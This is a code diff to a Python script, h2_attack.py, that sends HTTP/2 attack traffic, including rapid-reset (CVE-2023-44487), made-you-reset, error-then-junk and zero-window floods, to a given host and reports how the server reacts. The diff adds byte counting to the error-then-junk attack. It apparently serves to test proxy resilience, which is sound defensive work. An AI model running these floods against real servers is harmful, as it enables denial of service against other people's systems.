@@ -3,7 +3,7 @@
 
 h2_attack.py HOST PORT ATTACK [HOLD]   prints one JSON object: goaway (its code, or null), resets (RST_STREAM
 frames received), heads (HEADERS frames received), closed (the proxy closed the connection), reset (it ended with an
-RST), sent (frames sent), seconds.
+RST), sent (frames sent), junk (bytes of error-then-junk written), seconds.
 
 rapid-reset     HEADERS then RST_STREAM, thousands of times (CVE-2023-44487)
 made-you-reset  HEADERS, then more body than its content-length: the server must reset it itself
@@ -60,6 +60,7 @@ class Conn:
         self.statuses = []
         self.closed = False
         self.reset = False
+        self.junk = 0
         self.sent = 0
 
     def send(self, data, frames=1):
@@ -113,7 +114,7 @@ class Conn:
                         self.statuses.append(st[payload[0]])
 
     def result(self, t0):
-        return {"goaway": self.goaway, "resets": self.resets, "heads": self.heads, "data": self.data,
+        return {"junk": self.junk, "goaway": self.goaway, "resets": self.resets, "heads": self.heads, "data": self.data,
                 "statuses": self.statuses, "closed": self.closed, "reset": self.reset, "sent": self.sent,
                 "seconds": round(time.monotonic() - t0, 2)}
 
@@ -224,17 +225,25 @@ def main():
     elif attack == "error-then-junk":
         c.read(0.5)
 
+        sender = c.s.dup()          # a timeout of its own: the reader changes the other's
+        sender.settimeout(30)
+        sent = [0]
+
         def junk():
             # The error and, in the same write, more than the proxy reads in a turn: bytes still
             # unread when it ends the connection.
+            data = frame(4, 1, 0) + frame(0, 0, 0, b"x") + b"\0" * (4 << 20)
             try:
-                c.s.sendall(frame(4, 1, 0) + frame(0, 0, 0, b"x") + b"\0" * (4 << 20))
+                while sent[0] < len(data):
+                    sent[0] += sender.send(data[sent[0]:])
             except OSError:
                 pass
         t = threading.Thread(target=junk, daemon=True)
         t.start()
         c.read(10)
-        t.join(10)
+        t.join(30)
+        sender.close()
+        c.junk = sent[0]
     elif attack == "zero-window":
         # SETTINGS_INITIAL_WINDOW_SIZE 0: no DATA may come until a WINDOW_UPDATE, which never does.
         c.send(frame(4, 0, 0, struct.pack(">HI", 4, 0)))
